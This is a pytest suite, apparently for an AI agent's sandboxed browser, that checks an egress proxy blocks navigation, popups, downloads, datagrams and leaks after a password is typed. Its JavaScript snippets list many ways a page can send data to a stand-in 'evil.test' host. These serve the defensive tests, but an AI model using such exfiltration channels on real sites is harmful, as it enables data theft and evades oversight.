"""A real browser held to a policy: pages, frames, redirects, popups, downloads, typed secrets.

Every name leads to one site on loopback, which notes who was asked for what.
"""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psutil
import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page

from agents.browser.addresses import AddressChecker
from agents.browser.approved_origins import ApprovedOrigins
from agents.browser.egress import Denied, EgressProxy
from agents.browser.egress_policy import TAINTED, SessionEgress
from agents.browser.process import BrowserOptions, launch, terminate
from agents.browser.session import BrowserSession
from agents.errors import BrowserError
from agents.guard.policy import Policy

pytestmark = pytest.mark.browser
PATIENCE_S = 30
PATIENCE_MS = PATIENCE_S * 1000
MULTICAST_DNS = 5353


@dataclass
class World:
    """One browser behind its proxy, and the site that is every host."""

    session: BrowserSession
    proxy: EgressProxy
    port: int
    asked: list[str] = field(default_factory=list)
    denied: list[Denied] = field(default_factory=list)

    def url(self, host: str, path: str = "/") -> str:
        return f"http://{host}.test:{self.port}{path}"

    async def hold(self, **policy: Any) -> SessionEgress:
        egress = SessionEgress(Policy.parse(policy))
        self.proxy.policy = egress
        egress.on_change(self.proxy.recheck)
        await self.session.limit(egress, self.denied.append)
        return egress

    def hosts(self) -> set[str]:
        return {entry.partition("/")[0] for entry in self.asked}

    def rules(self) -> set[str]:
        return {event.rule for event in self.denied}


async def refused(page: Page) -> None:
    """Wait until a tab shows our answer in place of the page it was sent to."""
    await page.wait_for_function(
        "document.title === 'Not open to this browser'", timeout=PATIENCE_MS
    )


@pytest_asyncio.fixture(loop_scope="session")
async def world(driver: None, tmp_path: Path) -> AsyncIterator[World]:
    asked: list[str] = []

    async def serve(request: web.Request) -> web.StreamResponse:
        host = request.host.partition(".test")[0]
        asked.append(f"{host}{request.path}")
        if request.path == "/ws":
            channel = web.WebSocketResponse()
            await channel.prepare(request)
            async for message in channel:
                await channel.send_str(message.data)
            return channel
        if request.path == "/to":
            raise web.HTTPFound(request.query["url"])
        if request.path == "/file":
            return web.Response(
                body=b"x" * int(request.query.get("size", "10")),
                headers={"Content-Disposition": "attachment; filename=data.bin"},
            )
        if request.path.endswith(".js"):
            text = "addEventListener('message', e => fetch(e.data).catch(() => 0))"
            return web.Response(text=text, content_type="text/javascript")
        body = f"<title>{host}</title><p>{host}<a id=file href=/file>file</a>"
        return web.Response(
            text=body, content_type="text/html", headers={"Access-Control-Allow-Origin": "*"}
        )

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", serve)
    runner = web.AppRunner(app, shutdown_timeout=0.1, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    port = runner.addresses[0][1]

    async def resolve(host: str, at: int) -> Sequence[str]:
        return ["127.0.0.1"]

    denied: list[Denied] = []
    checker = AddressChecker([f"127.0.0.1:{port}", "127.0.0.0/8"], resolver=resolve)
    proxy = EgressProxy(checker, on_denied=denied.append)
    handle = await launch(
        BrowserOptions(), user_data_dir=tmp_path / "profile", proxy_port=await proxy.start()
    )
    session = await BrowserSession.open(handle, downloads_dir=tmp_path / "downloads")
    yield World(session, proxy, port, asked, denied)
    await session.close()
    await terminate(handle)
    await proxy.stop()
    await runner.cleanup()


async def test_guided_limits_what_is_opened_and_not_what_pages_load(world: World) -> None:
    await world.hold(
        allowed_domains=["shop.test"], auth_domains=["login.test"], redirect_domains=["go.test"],
        blocked_domains=["ads.test"],
    )  # fmt: skip
    tab = world.session.page
    for host in ("shop", "login"):
        await tab.goto(world.url(host))
        assert await tab.title() == host
    answer = await tab.goto(world.url("evil"))
    assert answer is not None and answer.status == 403
    assert answer.headers["x-egress-rule"] == "policy:allowed_domains"
    assert "policy:allowed_domains" in await tab.inner_text("body")
    # A redirector may pass on to what is open, and to nothing else, and shows nothing itself.
    await tab.goto(world.url("go", f"/to?url={world.url('shop', '/landed')}"))
    assert tab.url == world.url("shop", "/landed")
    answer = await tab.goto(world.url("go", f"/to?url={world.url('evil')}"))
    assert answer is not None and answer.status == 403
    answer = await tab.goto(world.url("go"))
    assert answer is not None and answer.headers["x-egress-rule"] == "policy:redirect_domains"
    assert "evil" not in world.hosts()
    # Parts of a page come from anywhere but the blocked.
    await tab.goto(world.url("shop"))
    assert await tab.evaluate("u => fetch(u).then(r => r.status)", world.url("cdn")) == 200
    await tab.evaluate(
        "u => new Promise(r => { const f = document.createElement('iframe'); f.onload = r;"
        " f.src = u; document.body.append(f) })",
        world.url("frame"),
    )
    assert {"cdn", "frame"} <= world.hosts()
    assert await tab.evaluate("u => fetch(u).then(r => r.status, () => 0)", world.url("ads")) in (
        0, 403,
    )  # fmt: skip
    assert "ads" not in world.hosts()
    assert world.rules() == {
        "policy:allowed_domains", "policy:redirect_domains", "policy:blocked_domains",
    }  # fmt: skip


LEAVE = {
    "a link": "u => { const a = document.createElement('a'); a.href = u; document.body.append(a); a.click() }",  # noqa: E501
    "script": "u => { location.href = u }",
    "a form": "u => { const f = document.createElement('form'); f.method = 'post'; f.action = u; document.body.append(f); f.submit() }",  # noqa: E501
    "a refresh": "u => { document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${u}'>` }",  # noqa: E501
    "a popup": "u => { window.open(u) }",
    "a popup without opener": "u => { window.open(u, '_blank', 'noopener') }",
    "a frame's top": "u => { const f = document.createElement('iframe'); f.srcdoc = `<script>top.location = '${u}'</` + 'script>'; document.body.append(f) }",  # noqa: E501
    "a replaced entry": "u => { location.replace(u) }",
    "a redirect": "u => { location.href = '/to?url=' + encodeURIComponent(u) }",
    "speculation": "u => { const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({prerender: [{source: 'list', urls: [u]}]}); document.head.append(s); setTimeout(() => { location.href = u }, 300) }",  # noqa: E501
}  # fmt: skip


async def test_a_page_cannot_leave_by_itself(world: World) -> None:
    await world.hold(allowed_domains=["shop.test"])
    for way, script in LEAVE.items():
        world.denied.clear()
        tab = world.session.page
        await tab.goto(world.url("shop"))
        if "popup" in way:
            async with tab.expect_popup(timeout=PATIENCE_MS) as opened:
                await tab.evaluate(script, world.url("evil"))
            tab = await opened.value
        else:
            await tab.evaluate(script, world.url("evil"))
        await refused(tab)
        assert world.rules() == {"policy:allowed_domains"}, way
        assert "evil" not in world.hosts(), way


async def test_strict_closes_every_connection(world: World) -> None:
    await world.hold(mode="strict", allowed_domains=["shop.test"], redirect_domains=["go.test"])
    tab = world.session.page
    await tab.goto(world.url("shop"))
    assert await tab.title() == "shop"
    await tab.evaluate(EVERY_WAY, [world.url("evil"), world.url("evil", "/to")])
    await tab.evaluate("u => fetch(u)", world.url("go"))
    assert world.hosts() == {"shop", "go"}
    answer = await tab.goto(world.url("go", f"/to?url={world.url('shop', '/landed')}"))
    assert answer is not None and answer.status == 200
    assert world.rules() == {"policy:allowed_domains"}


async def test_an_empty_list_is_nothing_and_null_is_no_limit(world: World) -> None:
    tab = world.session.page
    await world.hold(allowed_domains=[])
    answer = await tab.goto(world.url("shop"))
    assert answer is not None and answer.status == 403 and world.asked == []
    await world.hold(allowed_domains=None)
    await tab.goto(world.url("shop"))
    assert await tab.title() == "shop"
    await world.hold(private_access=[])
    answer = await tab.goto(world.url("other"))
    assert answer is not None and answer.headers["x-egress-rule"] == "policy:private_access"


async def test_after_a_secret_was_typed_it_cannot_leave(world: World) -> None:
    egress = await world.hold()
    tab = world.session.page
    await tab.goto(world.url("shop"))
    before = await tab.evaluate(
        """u => new Promise((done, fail) => { window.s = new WebSocket(u); s.onerror = fail;
        window.gone = new Promise(r => { s.onclose = () => r(true) }); s.onopen = () => done(1) })""",  # noqa: E501
        world.url("evil", "/ws").replace("http", "ws"),
    )
    assert before == 1 and "evil" in world.hosts()
    world.asked.clear()
    egress.taint(["shop.test"], "password", at=tab.url)
    assert await tab.evaluate("gone")
    await tab.evaluate(EVERY_WAY, [world.url("evil"), world.url("login")])
    assert world.hosts() <= {"shop"}
    assert world.rules() == {TAINTED}
    assert await tab.evaluate("fetch('/more').then(r => r.status)") == 200
    answer = await tab.goto(world.url("evil"))
    assert answer is not None and answer.status == 403
    egress.approve(world.url("login"))
    await tab.goto(world.url("login"))
    assert await tab.title() == "login"


async def test_what_a_person_takes_back_is_cut_and_closed(world: World) -> None:
    egress = await world.hold()
    tab = world.session.page
    await tab.goto(world.url("shop"))
    egress.taint(["shop.test"], "password", at=tab.url)
    opened = ApprovedOrigins().opened(world.url("login"))
    egress.follow(opened.as_json())
    await tab.goto(world.url("login"))
    channel = world.url("login", "/ws").replace("http", "ws")
    assert await tab.evaluate(
        """u => new Promise((done, fail) => { window.s = new WebSocket(u); s.onerror = fail;
        window.gone = new Promise(r => { s.onclose = () => r(true) }); s.onopen = () => done(1) })""",  # noqa: E501
        channel,
    )
    egress.follow(opened.closed(world.url("login", "")).as_json())
    assert await tab.evaluate("gone")
    assert await tab.evaluate("fetch('/more').then(r => r.status, () => 0)") in (0, 403)
    answer = await tab.goto(world.url("login"))
    assert answer is not None and answer.status == 403
    assert world.rules() == {TAINTED}


async def test_after_a_secret_was_typed_a_closed_page_over_https_says_why(world: World) -> None:
    egress = await world.hold()
    tab = world.session.page
    await tab.goto(world.url("shop"))
    egress.taint(["shop.test"], "password", at=tab.url)
    await world.session.limit(egress, world.denied.append)
    await tab.evaluate("location = 'https://evil.test/x'")
    await refused(tab)
    assert "page.goto with the page's address asks a person" in await tab.inner_text("body")
    # What a page loads is the proxy's to judge, as before.
    await tab.goto(world.url("shop"))
    assert await tab.evaluate("fetch('/more').then(r => r.status)") == 200


# Each way of asking is tried and is over before this returns.
EVERY_WAY = """async urls => { const tries = [];
const settle = p => tries.push(Promise.race([p, new Promise(r => setTimeout(r, 5000))]).catch(() => 0));
const make = (tag, set) => new Promise(r => { const e = document.createElement(tag);
  e.onload = e.onerror = r; set(e); (document.body || document.documentElement).append(e) });
for (const url of urls) {
  settle(fetch(url, {mode: 'no-cors'}));
  settle(fetch(url, {method: 'POST', body: 'sesame', mode: 'no-cors', keepalive: true}));
  settle(make('img', e => { e.src = url })); settle(make('script', e => { e.src = url }));
  settle(make('iframe', e => { e.src = url })); settle(make('object', e => { e.data = url }));
  settle(make('link', e => { e.rel = 'stylesheet'; e.href = url }));
  settle(make('link', e => { e.rel = 'prefetch'; e.href = url }));
  for (const rel of ['preconnect', 'dns-prefetch', 'modulepreload'])
    make('link', e => { e.rel = rel; e.href = url });
  settle(new Promise(r => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = s.onerror = r }));
  settle(new Promise(r => { const e = new EventSource(url); e.onerror = () => { e.close(); r() }; e.onopen = r }));
  navigator.sendBeacon(url, 'sesame');
  settle(new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', url); x.send() }));
  const worker = new Worker(URL.createObjectURL(new Blob([
    `fetch('${url}', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage(1))`])));
  settle(new Promise(r => { worker.onmessage = worker.onerror = r }));
}
await Promise.all(tries) }"""  # noqa: E501


async def test_datagrams_do_not_leave(world: World) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as heard:
        heard.bind(("127.0.0.1", 0))
        heard.setblocking(False)
        port = heard.getsockname()[1]
        await world.session.page.goto(f"http://localhost:{world.port}/")  # a secure context
        assert await world.session.page.evaluate("!!self.WebTransport && !!self.RTCPeerConnection")
        tried = await world.session.page.evaluate(
            """async port => { const said = [];
            const rtc = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`},
              {urls: `turn:127.0.0.1:${port}?transport=udp`, username: 'a', credential: 'b'}]});
            rtc.onicecandidate = e => e.candidate && said.push(e.candidate.candidate);
            rtc.createDataChannel('x'); await rtc.setLocalDescription(await rtc.createOffer());
            await new Promise(r => { rtc.onicegatheringstatechange = () =>
              rtc.iceGatheringState == 'complete' && r(); setTimeout(r, 4000) });
            if (self.WebTransport) for (const host of ['127.0.0.1', 'evil.test']) {
              try { const t = new WebTransport(`https://${host}:${port}/`);
                await Promise.race([t.ready, new Promise(r => setTimeout(r, 2000))]) }
              catch (e) { said.push('' + e) } }
            return said.filter(line => line.includes(' typ ')) }""",
            port,
        )
        assert tried == []
        with pytest.raises(BlockingIOError):
            heard.recv(1)


async def test_names_of_peers_are_not_asked_for_in_the_local_network(world: World) -> None:
    """`.local` is asked for by multicast, which goes past any proxy."""
    await world.session.page.goto(world.url("shop"))
    await world.session.page.evaluate(
        """async () => {
        const near = new RTCPeerConnection(), far = new RTCPeerConnection();
        near.createDataChannel('x'); await near.setLocalDescription(await near.createOffer());
        await far.setRemoteDescription(near.localDescription);
        await far.setLocalDescription(await far.createAnswer());
        for (const name of ['sesame.local', '01234567-89ab-cdef-0123-456789abcdef.local'])
          for (const [way, more] of [['UDP', ''], ['TCP', ' tcptype passive']])
            await far.addIceCandidate({sdpMid: '0',
              candidate: `candidate:1 1 ${way} 2130706431 ${name} 5000 typ host${more}`});
        self.kept = [near, far] }"""
    )
    browser = psutil.Process(world.session.handle.pid)
    for _ in range(20):
        await world.session.page.evaluate("new Promise(r => setTimeout(r, 50))")
        for process in (browser, *browser.children(recursive=True)):
            ports = [socket.laddr.port for socket in process.net_connections("udp")]
            assert MULTICAST_DNS not in ports


async def test_downloads_keep_to_the_policy(world: World) -> None:
    tab = world.session.page
    link = "u => { const a = document.createElement('a'); a.href = u; document.body.append(a); a.click() }"  # noqa: E501
    await world.hold(downloads={"mode": "deny"})
    await tab.goto(world.url("shop"))
    await tab.evaluate(link, "/file")
    with pytest.raises(BrowserError):
        await world.session.next_download(timeout_s=PATIENCE_S)
    assert [(event.rule, event.host) for event in world.denied] == [
        ("policy:downloads", "shop.test")
    ]
    await world.hold(downloads={"max_bytes": 100})
    await tab.evaluate(link, "/file?size=101")
    with pytest.raises(BrowserError):
        await world.session.next_download(timeout_s=PATIENCE_S)
    assert world.denied[-1].rule == "policy:downloads.max_bytes"
    await tab.evaluate(link, "/file?size=100")
    assert (await world.session.next_download(timeout_s=PATIENCE_S)).size_bytes == 100
    await world.hold(downloads="ask")
    world.session.grant_download()
    await tab.evaluate(link, "/file?size=7")
    assert (await world.session.next_download(timeout_s=PATIENCE_S)).size_bytes == 7
    await tab.evaluate(link, "/file?size=8")
    with pytest.raises(BrowserError):
        await world.session.next_download(timeout_s=PATIENCE_S)
    with pytest.raises(PlaywrightError):
        await tab.goto(world.url("shop", "/file"))
